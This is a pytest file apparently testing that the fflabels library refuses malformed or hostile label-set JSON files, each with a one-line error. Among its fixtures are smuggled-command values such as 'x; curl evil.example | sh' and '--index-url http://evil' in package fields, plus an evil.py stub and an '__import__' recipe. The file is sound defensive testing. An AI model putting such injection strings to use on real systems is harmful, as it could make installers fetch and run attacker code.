"""Hostile and damaged label-set files: each is one clear line, none is believed, none takes the process down."""

import json

import pytest

from fflabels import FFLabelsError, LabelSet, design, named_set
from fflabels import label_set_file as module
from fflabels.recipe import canonical_json, sha256

GOOD = named_set("fourier:paper10").to_json()


def edited(change):
    """Return the good file after `change`, with a hash that fits."""
    content = json.loads(GOOD)
    del content["sha256"]
    change(content)
    content["sha256"] = sha256(canonical_json(content))
    return json.dumps(content).encode()


def setting(*path, value):
    def change(content):
        for key in path[:-1]:
            content = content[key]
        content[path[-1]] = value

    return edited(change)


def dropping(key):
    return edited(lambda content: content.pop(key))


FILES = {
    "empty": (b"", "not a label-set file: Expecting value"),
    "truncated": (GOOD[: len(GOOD) // 2], "not a label-set file"),
    "one byte changed": (GOOD.replace(b"6.0", b"7.0", 1), "damaged or edited: the content does not match its hash"),
    "no hash": (GOOD.replace(b'"sha256"', b'"sha25"'), "damaged or edited"),
    "not UTF-8": (GOOD.replace(b"fourier", b"four\xffer"), "not UTF-8: byte"),
    "UTF-16": (GOOD.decode().encode("utf-16"), "not UTF-8|not a label-set file|damaged"),
    "NaN": (GOOD.replace(b"6.0", b"NaN", 1), r"json: recipes\[0\].waves\[0\].fx: not finite; got nan; expected a finite number"),
    "Infinity": (GOOD.replace(b"6.0", b"-Infinity", 1), r"recipes\[0\].waves\[0\].fx: not finite; got -inf"),
    "too large a number": (GOOD.replace(b"6.0", b"1e999", 1), r"recipes\[0\].waves\[0\].fx: not finite; got inf"),
    "a parameter that is NaN": (GOOD.replace(b'"max_frequency": 8.0', b'"max_frequency": NaN'), "json: labeler.params.max_frequency: not finite; got nan"),
    "NaN deep inside": (GOOD.replace(b"6.0", b"[" * 900 + b"NaN" + b"]" * 900, 1), "not finite; got nan|nested too deeply"),
    "a number of 5000 digits": (GOOD.replace(b"6.0", b"9" * 5000, 1), "not a label-set file: Exceeds the limit"),
    "10k-deep nesting": (b"[" * 10_000 + b"]" * 10_000, "nested too deeply|not a label-set file"),
    "10k-deep nesting inside": (GOOD.replace(b"6.0", b"[" * 10_000 + b"]" * 10_000, 1), "nested too deeply|damaged"),
    "nesting at the edge of the parser's depth": (GOOD.replace(b"6.0", b"[" * 991 + b"]" * 991, 1), "nested too deeply|damaged"),
    "half a character": (GOOD.replace(b"built-in set", b"\\ud800", 1), "not text: half of a surrogate pair"),
    "duplicate keys": (GOOD.replace(b'"version": 2', b'"version": 2, "version": 2'), "duplicate key 'version'"),
    "a duplicate key among many": (GOOD.replace(b'"version": 2', b'"version": 2, ' + b", ".join(b'"%d": 0' % k for k in range(50_000)) + b', "7": 0'), "duplicate key '7'"),
    "a list": (b"[1, 2]", "not a label-set file; expected an object"),
    "another format": (setting("format", value="something else"), "not a label-set file; got \"format\": \"something else"),
    "a later version": (setting("version", value=7), "unknown version of the label-set file; got 7; expected 1 or 2"),
    "no recipes": (setting("recipes", value=[]), "bad number of recipes; got 0"),
    "recipes no list": (setting("recipes", value={"a": 1}), "not a label-set file: Expected `array`"),
    "an unknown field": (setting("extra", value=1), "unknown field `extra`"),
    "a missing field": (dropping("provenance"), "missing required field `provenance`"),
    "a bad recipe": (setting("recipes", 3, value={"waves": []}), r"recipes\[3\]: Expected `array` of length >= 1"),
    "a recipe with code": (setting("recipes", 0, value={"__import__": "os"}), r"recipes\[0\]: Object contains unknown field"),
    "a flat wave": (setting("recipes", 0, "waves", 0, "fx", value=0.0), r"recipes\[0\]: fy, fx: a wave needs a frequency"),
    "a bad parameter": (setting("labeler", "params", "waves", value=-1), "labeler fourier: bad parameter"),
    "an unknown parameter": (setting("labeler", "params", "wavs", value=1), "unknown parameter; got wavs .did you mean 'waves'"),
    "a missing plugin": (
        setting("labeler", value={"name": "gabor", "distribution": "fflabels-gabor", "version": "0.3", "params": {}}),
        r"made by the labeler gabor of fflabels-gabor 0.3, which is not installed .pip install fflabels-gabor==0.3",
    ),
    "a missing labeler of nobody": (
        setting("labeler", value={"name": "mine", "distribution": "", "version": "", "params": {}}),
        "made by the labeler mine, which no distribution has .in a file. --labeler FILE.py:CLASS",
    ),
    "a shape beyond memory": (
        edited(
            lambda c: c.update(
                scores={
                    "shape": [1, 10**9, 10**9],
                    "references": {"name": "x", "count": 1, "sha256": ""},
                    "similarity": {},
                    "random": {},
                    "visibility": [],
                }
            )
        ),
        "scores.shape: not an image shape",
    ),
    "scores of other labels": (
        edited(
            lambda c: c.update(
                scores={
                    "shape": [1, 32, 32],
                    "references": {"name": "x", "count": 1, "sha256": ""},
                    "similarity": {},
                    "random": {},
                    "visibility": [1.0],
                }
            )
        ),
        "scores.visibility: not one per label; got 1; expected 10",
    ),
    "a pip command with more behind it": (
        setting("labeler", value={"name": "x", "distribution": "x; curl evil.example | sh", "version": "1", "params": {}}),
        r"of x; curl evil.example \| sh 1, which is not installed$",
    ),
    "a pip command with another index": (
        setting("labeler", value={"name": "x", "distribution": "x", "version": "1 --index-url http://evil", "params": {}}),
        "which is not installed$",
    ),
    "imprints of no image": (setting("imprints", "shape", value=[1, 16, 10**9]), "imprints.shape: not an image shape"),
    "imprints of other labels": (setting("imprints", "imprints", value=["AA=="] * 11), "imprints: not one per label; got 11"),
    "an imprint that is too short": (setting("imprints", "imprints", 2, value="AA=="), r"imprints\[2\]: not an imprint; got AA=="),
    "an imprint that is no base64": (setting("imprints", "imprints", 0, value="é%"), r"imprints\[0\]: not an imprint"),
    "escape sequences": (setting("labeler", "name", value="\x1b[31mred"), r"made by the labeler \[31mred of fflabels"),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_it_is_refused_in_one_line(name, tmp_path):
    data, message = FILES[name]
    path = tmp_path / "labels.json"
    path.write_bytes(data)
    with pytest.raises(FFLabelsError, match=message) as caught:
        LabelSet.load(path)
    assert str(path) in str(caught.value)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 600


def test_the_good_file_is_good():
    assert LabelSet.from_json(GOOD) == named_set("fourier:paper10")
    assert LabelSet.from_json(edited(lambda content: None)) == named_set("fourier:paper10")


def test_more_recipes_than_the_limit_are_refused(monkeypatch):
    monkeypatch.setattr(module, "MAX_RECIPES", 9)
    with pytest.raises(FFLabelsError, match="bad number of recipes; got 10; expected 1 to 9"):
        LabelSet.from_json(GOOD)


def test_a_file_larger_than_the_limit_is_not_read_whole(monkeypatch, tmp_path):
    monkeypatch.setattr(module, "MAX_BYTES", 100)
    (tmp_path / "labels.json").write_bytes(GOOD)
    with pytest.raises(FFLabelsError, match="too large for a label-set file"):
        LabelSet.load(tmp_path / "labels.json")


def test_what_cannot_be_opened_is_named(tmp_path):
    for path, message in ((tmp_path / "none.json", "No such file"), (tmp_path, "Is a directory")):
        with pytest.raises(FFLabelsError, match=f"cannot be read: {message}"):
            LabelSet.load(path)


@pytest.mark.parametrize(
    ("distribution", "name"), [("evil.py", "Evil"), ("", "evil.py:Evil"), ("./evil.py", "Evil"), ("evil.py:Evil", "x")]
)
def test_a_file_cannot_name_code_to_run(monkeypatch, tmp_path, distribution, name):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.py").write_text("open('ran', 'w').close()")
    mark = {"name": name, "distribution": distribution, "version": "1", "params": {}}
    with pytest.raises(FFLabelsError, match=r"which is not installed|which no distribution has"):
        LabelSet.from_json(setting("labeler", value=mark))
    with pytest.raises(FFLabelsError):
        named_set("evil.py:Evil:ten")
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (
            ("similarity", "pearson", "pair"),
            [7, 99],
            "scores.similarity.pearson.pair: not a pair of labels; got \\(7, 99\\)",
        ),
        (("similarity", "pearson", "pair"), [1, 1], "not a pair of labels"),
        (("intensity",), 7.0, "scores.intensity: out of range; got 7.0; expected above 0, at most 1"),
        (("visibility",), [1.0], "scores.visibility: not one per label; got 1; expected 3"),
    ],
)
def test_scores_that_cannot_be_are_refused(path, value, message):
    content = json.loads(design("fourier", 3, candidates=5, shape=(1, 8, 8), references="digits").to_json())
    del content["sha256"]
    place = content["scores"]
    for key in path[:-1]:
        place = place[key]
    assert path[-1] in place
    place[path[-1]] = value
    content["sha256"] = sha256(canonical_json(content))
    with pytest.raises(FFLabelsError, match=message):
        LabelSet.from_json(json.dumps(content).encode())
